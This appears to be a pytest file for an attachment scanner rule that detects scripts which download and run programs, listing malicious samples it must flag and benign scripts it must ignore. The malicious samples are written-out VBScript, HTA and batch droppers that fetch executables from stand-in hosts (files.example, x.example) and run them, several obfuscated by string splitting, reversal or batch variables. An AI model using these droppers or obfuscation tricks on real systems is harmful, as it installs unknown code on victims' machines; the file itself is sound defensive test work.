"""Scripts that script_downloads_and_runs must find, and (more) that it must leave alone."""

from __future__ import annotations

import pytest

from tests import files
from tests import files_scripts as scripts
from tests.workers.attachments.scan import File, found

VBS = (
    b'Set h = CreateObject("MSXML2.ServerXMLHTTP")\r\nh.open "GET", "http://files.example/a.exe", False\r\nh.send\r\n'
    b'Set s = CreateObject("ADODB.Stream")\r\ns.SaveToFile "a.exe"\r\nCreateObject("WScript.Shell").Run "a.exe", 0\r\n'
)
HTA = b'<html><script language=VBScript>CreateObject("WScript.Shell").Run "certutil -urlcache -f http://x.example/a"</script>'
GROWING = b'x = "MSXML2."\r\nx = x & "XMLHTTP"\r\nCreateObject("WScr" & "ipt.Sh" & "ell").Run y, 0\r\n'

BAD: dict[str, File] = {
    "VBScript": ("invoice.vbs", VBS),
    "HTA": ("invoice.hta", HTA),
    "words in pieces": ("order.js", scripts.dropper_js()),
    "a word that grows": ("a.vbs", GROWING),
    "an encoded command": ("update.bat", scripts.encoded_command()),
    "variables of a batch file": (
        "b.bat",
        b"@echo off\r\nset a=bits\r\nset b=admin\r\n%a%%b% /transfer x http://files.example/a.exe a.exe\r\n"
        b"cmd /c a.exe\r\n",
    ),
    "backwards": ("c.vbs", b'Set a = CreateObject(StrReverse("PTTHLMX.2LMXSM"))\r\nExecute a.responseText\r\n'),
    "in a zip": ("a.zip", files.zip_file({"invoice.vbs": VBS})),
    "an installer in the open, mild": ("setup.ps1", scripts.INSTALLER),
}
GOOD: dict[str, File] = {
    "a library": ("lib.min.js", scripts.LIBRARY),
    "a backup": ("backup.bat", scripts.BACKUP),
    "drives of a department": ("logon.vbs", scripts.LOGON),
    "starts a program that is there": ("a.vbs", b'CreateObject("WScript.Shell").Run "notepad.exe"\r\n'),
    "asks a service": ("b.ps1", b"$r = Invoke-RestMethod https://api.example.com/status\r\nWrite-Host $r.state\r\n"),
    "a page that asks its server": ("c.js", b"var x = new XMLHttpRequest(); x.open('GET', '/a.json'); x.send();\n"),
    "copies files": ("d.cmd", b"robocopy C:\\a D:\\b /mir\r\n"),
    "writes a table": ("e.vbs", b'Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile("a.csv")\r\n'),
    "settings": ("f.reg", b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\A]\r\n"),
    "a module": ("g.psm1", b"function Get-Sum($a, $b) { return $a + $b }\r\nExport-ModuleMember Get-Sum\r\n"),
    "a text about it": ("notes.txt", VBS),
    "a page": ("a.html", files.page(script="<script>document.title = 1</script>")),
}


def test_in_the_open_it_weighs_little() -> None:
    assert [finding.weight for finding in found("script_downloads_and_runs", ("setup.ps1", scripts.INSTALLER))] == [2.0]


def test_the_words_are_shown_as_they_are_meant() -> None:
    (finding,) = found("script_downloads_and_runs", BAD["words in pieces"])
    assert "MSXML2.XMLHTTP" in finding.detail


@pytest.mark.parametrize("file", BAD.values(), ids=BAD)
def test_is_found(file: File) -> None:
    assert len(found("script_downloads_and_runs", file)) == 1


@pytest.mark.parametrize("file", GOOD.values(), ids=GOOD)
def test_is_left_alone(file: File) -> None:
    assert found("script_downloads_and_runs", file) == []
